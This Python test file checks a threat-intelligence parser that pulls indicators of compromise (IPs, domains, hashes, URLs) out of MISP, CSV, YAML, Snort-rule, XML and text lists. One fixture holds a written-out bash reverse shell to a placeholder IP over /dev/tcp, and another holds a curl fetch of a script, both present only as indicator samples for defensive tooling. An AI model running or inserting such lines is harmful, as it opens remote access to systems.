"""Lists that state the type of each value: no other type is accepted in any form."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from pathlib import Path

import pytest

from lamsach.indicators.lists import read_list
from lamsach.indicators.tables.fields import stated_type
from lamsach.model import Indicator, IndicatorType

MD5, SHA1, SHA256 = "0123456789abcdef" * 2, "0123456789" * 4, "0123456789abcdef" * 4

ACCEPTED = [
    ("ip-dst|port", "203.0.113.5|443", ["203.0.113.5"]),
    ("ip-src", "2001:db8::5", ["2001:db8::5"]),
    ("hostname|port", "c2.evil.example|8080", ["c2.evil.example"]),
    ("domain|ip", "evil.example|203.0.113.6", ["evil.example", "203.0.113.6"]),
    ("domain_name", "name.evil.example", ["name.evil.example"]),
    ("onion-address", f"{'a' * 55}d.onion", [f"{'a' * 55}d.onion"]),
    ("url", "http://evil.example/a", ["http://evil.example/a"]),
    ("filename|md5", f"evil.com|{MD5}", [MD5]),
    ("malware-sample", f"evil.com|{MD5[::-1]}", [MD5[::-1]]),
    ("File-Name", "evil.com", ["evil.com"]),
    ("sha1", SHA1, [SHA1]),
    ("sha256_hash", SHA256, [SHA256]),
]
"""MISP's types (https://www.misp-project.org/datamodels/) and others' names, with the result."""
LEFT_OUT = [
    ("email-body", "see http://body.example/a"),
    ("email-header", "Received: from mx.header.example [203.0.113.9]"),
    ("email-x-mailer", "mailer.example.com"),
    ("email-src-display-name", "Bank.com"),
    ("email-message-id", "<1@mid.example.com>"),
    ("attachment", "invoice.com"),
    ("dkim", "dkim.example.com"),
    ("whois-registrar", "www.registrar.com"),
    ("whois-registrant-org", "owner.com"),
    ("target-machine", "pc.victim.example"),
    ("target-org", "victim.example.com"),
    ("mobile-application-id", "com.evil.app"),
    ("chrome-extension-id", "abcdefabcdefabcdefabcdefabcdefab"),
    ("github-repository", "github.com/evil/tool"),
    ("regkey|value", "HKLM\\Run|http://value.example/a"),
    ("windows-service-displayname", "update.org"),
    ("cdhash", "89" * 20),
    ("git-commit-id", "ab" * 20),
    ("dom-hash", "cd" * 16),
    ("hassh-md5", "ef" * 16),
    ("hex", "12" * 16),
    ("mac-eui-64", "00:11:22:ff:fe:33:44:55"),
    ("zeek", "zeek.example.com"),
    ("stix2-pattern", "[domain-name:value = 'pattern.example']"),
    ("kusto-query", "T | where u has 'query.example'"),
    ("cortex", '{"seen": "cortex.example"}'),
    ("anonymised", "203.0.113.10"),
    ("full-name", "john.com"),
    ("file_path", "C:\\Users\\evil.com"),
    ("command_line", "curl command.example/a.sh"),
    ("package name", "com.evil.app"),
    ("configuration-profile", "net.evil.profile"),
]


def as_misp(rows: Sequence[tuple[str, str]]) -> str:
    attributes = [{"type": kind, "value": value, "category": "Other", "to_ids": True} for kind, value in rows]
    return json.dumps({"Event": {"info": "Evil", "date": "2024-01-01", "Attribute": attributes}})


def as_csv(rows: Sequence[tuple[str, str]]) -> str:
    stream = io.StringIO()
    csv.writer(stream).writerows(
        [("Type", "Indicator", "Note"), *((kind, value, "n") for kind, value in rows)]
    )
    return stream.getvalue()


def as_records(rows: Sequence[tuple[str, str]]) -> str:
    return json.dumps([{"type": kind, "value": value} for kind, value in rows])


@pytest.mark.parametrize("form", [as_misp, as_csv, as_records])
def test_every_form_yields_every_type_of_value(form: object, tmp_path: Path) -> None:
    assert callable(form)
    stated = [(kind, value) for kind, value, _ in ACCEPTED]
    path = tmp_path / "list"
    path.write_text(form([*stated, *LEFT_OUT]))
    accepted = [item for item in read_list(str(path), print) if isinstance(item, Indicator)]
    assert sorted(item.value for item in accepted) == sorted(
        value for _, _, values in ACCEPTED for value in values
    )
    assert {item.type for item in accepted if item.value == "evil.com"} == {IndicatorType.FILE_NAME}


def test_types_are_recognized_with_any_word_separator() -> None:
    assert stated_type("Domain_Name") == stated_type("domain-name") == (IndicatorType.DOMAIN, False)
    assert stated_type("registry-key") == (None, True)
    assert stated_type("stage two") == (None, False)


LISTS = [
    ("a.csv", f"a.exe,MD5: {MD5},SHA1: {SHA1}\nb.exe,MD5: {MD5[::-1]},SHA1: {SHA1[::-1]}\n",
     [MD5, SHA1, MD5[::-1], SHA1[::-1]]),
    ("b.csv", "Domain: a.example;IP: 203.0.113.5\nDomain: b.example;IP: 203.0.113.6\n",
     ["a.example", "203.0.113.5", "b.example", "203.0.113.6"]),
    ("c.csv", "Domain (C2),IP (host)\na.example,203.0.113.5\nb.example,203.0.113.6\n",
     ["a.example", "203.0.113.5", "b.example", "203.0.113.6"]),
    ("apps.yaml", ("- name: Spy\n  packages:\n  - com.spy.one\n  - org.spy.two\n  - net.spy.three\n  c2:\n"
                   "    domains:\n    - api.spy.example\n"), ["api.spy.example"]),
    ("sums.txt", f"\\{SHA256}  back\\\\slash.exe\n", [SHA256]),
    ("old.rules", ('alert tcp any any -> any 80 (msg:"x"; content:"Host|3a 20|evil.example|0d 0a|"; '
                   'sid:1;)\nalert tcp any any -> any 80 (msg:"y"; content:"Host: b.example"; http_header; '
                   'sid:2;)\nalert tcp any any -> any 80 (msg:"z"; content:!"Host|3a| good.example"; '
                   'sid:3;)\n'), ["evil.example", "b.example"]),
    ("note.txt",
     "4. Mẫu tệp: C:\\Windows\\a.exe, update.com\n- File name: setup.com\n- Máy chủ: update.example\n",
     ["update.example"]),
    ("plain.xml", ("<iocs><ioc type='domain'><value>evil.example</value></ioc><ioc "
                   "type='filename'><value>evil.com</value></ioc></iocs>"), ["evil.example", "evil.com"]),
    ("report.json",
     json.dumps({"domains": ["evil.example"], "files": ["evil.com"], "packages": ["org.evil.app"],
         "names": ["b.com"], "meaningful_name": "a.com"}), ["evil.example"]),
    ("records.json", json.dumps({"mask": "evil.example", "files": [{"MD5": MD5, "name": "a.com"}]}),
     ["evil.example", MD5]),
    ("shell.txt", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\nexec 3<>/dev/udp/c2.example/53\n",
     ["203.0.113.5", "c2.example"]),
    ("versions.txt", "Affected: FortiOS 7.2.0.1 through 7.2.4.9\nSee section 1.2.3.4.\nC2: 203.0.113.5\n",
     ["203.0.113.5"]),
    ("spaced.txt", "C2: http:// evil[.]example /gate\n", ["http://evil.example/gate"]),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text", "values"), LISTS, ids=[name for name, _, _ in LISTS])
def test_lists_that_state_the_type_of_each_value(
    name: str, text: str, values: list[str], tmp_path: Path
) -> None:
    (tmp_path / name).write_text(text)
    found = [item.value for item in read_list(str(tmp_path / name), print) if isinstance(item, Indicator)]
    assert found == values
